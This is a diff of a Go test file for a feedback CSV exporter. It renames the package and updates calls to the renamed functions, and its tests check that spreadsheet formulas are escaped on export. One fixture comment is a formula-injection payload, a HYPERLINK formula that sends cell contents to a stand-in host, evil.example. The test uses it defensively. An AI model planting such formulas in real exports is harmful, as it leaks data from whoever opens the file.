@@ -1,6 +1,8 @@
-package feedback
+package feedbackexport
 
 import (
+	"github.com/klartext/klartext/generator/feedback"
+
 	"encoding/csv"
 	"reflect"
 	"strings"
@@ -47,15 +49,15 @@ func TestEscapeCell(t *testing.T) {
 // the way a formula does, and the build reads every comment, answer and
 // video title back as it was stored.
 func TestExportDefusesFormulas(t *testing.T) {
-	in := []Entry{
-		{ID: "1", Page: "/a/", Date: day("2026-03-05"), Kind: Criticism, Public: true,
+	in := []feedback.Entry{
+		{ID: "1", Page: "/a/", Date: day("2026-03-05"), Kind: feedback.Criticism, Public: true,
 			Comment: `=HYPERLINK("https://evil.example/?d="&A1,"Mehr")`, Answer: "@Leserin: Danke!", Answered: day("2026-03-06")},
-		{ID: "2", Page: "/b/", Date: day("2026-03-05"), Kind: Question, Public: true, Comment: "'=1+1 ist doch 2?",
+		{ID: "2", Page: "/b/", Date: day("2026-03-05"), Kind: feedback.Question, Public: true, Comment: "'=1+1 ist doch 2?",
 			Videos: []string{"-5 % Kosten", "Risiko"}},
-		{ID: "3", Page: "/c/", Date: day("2026-03-05"), Kind: Praise, Public: true, Comment: "+1, und 'so' klar"},
+		{ID: "3", Page: "/c/", Date: day("2026-03-05"), Kind: feedback.Praise, Public: true, Comment: "+1, und 'so' klar"},
 	}
 	var b strings.Builder
-	if err := WriteExport(&b, in); err != nil {
+	if err := Write(&b, in); err != nil {
 		t.Fatal(err)
 	}
 	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
@@ -72,7 +74,7 @@ func TestExportDefusesFormulas(t *testing.T) {
 	if !strings.Contains(b.String(), `"'=HYPERLINK(`) || !strings.Contains(b.String(), ",''=1+1 ist doch 2?,") {
 		t.Errorf("export:\n%s", b.String())
 	}
-	got, ds := ParseExport(exportFile, strings.NewReader(b.String()))
+	got, ds := Parse(exportFile, strings.NewReader(b.String()))
 	if len(ds) > 0 {
 		t.Fatal(ds)
 	}
@@ -94,7 +96,7 @@ func TestParseExportWithoutEscapes(t *testing.T) {
 		"/a/,2026-01-05,praise,,,,,,@Bank: danke\n" +
 		"/a/,2026-01-05,praise,,,,,,'Tschuldigung\n" +
 		"/a/,2026-01-05,praise,,,,,,'-)\n"
-	got, ds := ParseExport(exportFile, strings.NewReader(src))
+	got, ds := Parse(exportFile, strings.NewReader(src))
 	if len(ds) > 0 || len(got) != 4 {
 		t.Fatalf("%+v %v", got, ds)
 	}
